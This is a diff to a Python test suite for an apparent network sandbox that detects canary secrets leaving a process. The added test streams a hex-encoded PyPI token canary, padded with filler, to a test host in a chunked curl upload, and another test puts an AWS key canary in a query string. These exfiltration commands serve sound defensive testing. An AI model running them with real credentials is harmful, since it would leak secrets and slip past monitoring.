@@ -33,10 +33,26 @@ class RecordingHandler(OriginHandler):
         return ok
 
     def do_POST(self) -> None:
-        length = int(self.headers.get("Content-Length") or 0)
-        body = self.rfile.read(length)
-        self.server.raw.append(body)  # type: ignore[attr-defined]
+        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
+            self._chunked()
+        else:
+            self.server.raw.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))  # type: ignore[attr-defined]
         self._reply(200, b"ok\n")
+
+    def _chunked(self) -> None:
+        """What arrived of a chunked body, kept also when the stream was cut before its end."""
+        body = b""
+        try:
+            while line := self.rfile.readline():
+                size = int(line.strip().split(b";")[0] or b"0", 16)
+                if size == 0:
+                    break
+                body += self.rfile.read(size)
+                self.rfile.readline()
+        except (OSError, ValueError):
+            pass
+        finally:
+            self.server.raw.append(body)  # type: ignore[attr-defined]
 
 
 def _recording_origin(context=None):
@@ -91,7 +107,7 @@ def _assert_never_echoed(netjail: Netjail, result: Result, value: str) -> None:
 
 def _run(netjail: Netjail, script: str, *args: str) -> tuple[Result, str]:
     """Runs `script` (bash) with canaries on; it writes the canary it sends to `sent.txt` first."""
-    result = netjail.run("-s", str(_settings(netjail)), *args, "-c", script, timeout=90)
+    result = netjail.run(*args, "-s", str(_settings(netjail)), "-c", script, timeout=90)
     sent = (netjail.work / "sent.txt").read_text().strip() if (netjail.work / "sent.txt").exists() else ""
     return result, sent
 
@@ -159,7 +175,9 @@ def test_a_canary_in_a_query_string(netjail: Netjail, origin) -> None:
         f"""printf %s "$DEPLOY_AWS_KEY_ID" > sent.txt
         curl -sS -o /dev/null "http://allowed.test:{origin.server_port}/q?key=$DEPLOY_AWS_KEY_ID"
         echo late > after.txt""",
+        "-d",  # the debug log names the canaries, never a value (checked with stderr)
     )
+    assert "DEPLOY_AWS_KEY_ID" in result.stderr
     _assert_tripped(
         netjail, result, origin, sent, "DEPLOY_AWS_KEY_ID", "query",
         "canary DEPLOY_AWS_KEY_ID went to host allowed.test in the query string",
@@ -184,6 +202,23 @@ def test_a_canary_from_the_decoy_file_in_a_json_body(netjail: Netjail, origin) -
     _assert_tripped(
         netjail, result, origin, sent, f"{DECOY_FILE} aws_secret_access_key", "body",
         f"canary {DECOY_FILE} aws_secret_access_key went to host allowed.test in the request body",
+    )  # fmt: skip
+
+
+def test_a_canary_in_a_streamed_body_is_cut(netjail: Netjail, origin) -> None:
+    """A chunked upload (no length: watched as it streams), the canary hex-encoded after 4 KB of filler."""
+    result, sent = _run(
+        netjail,
+        f"""printf %s "$BACKUP_PYPI_TOKEN" > sent.txt
+        {{ head -c 4096 /dev/zero | tr '\\0' a; printf %s "$BACKUP_PYPI_TOKEN" | od -An -tx1 | tr -d ' \\n'; }} |
+          curl -sS -o /dev/null -H "Transfer-Encoding: chunked" --data-binary @- \
+          http://allowed.test:{origin.server_port}/upload
+        echo late > after.txt""",
+    )
+    assert not any(sent.encode().hex().encode()[:40] in chunk for chunk in origin.raw)
+    _assert_tripped(
+        netjail, result, origin, sent, "BACKUP_PYPI_TOKEN", "body",
+        "canary BACKUP_PYPI_TOKEN went to host allowed.test in the request body",
     )  # fmt: skip
 
 
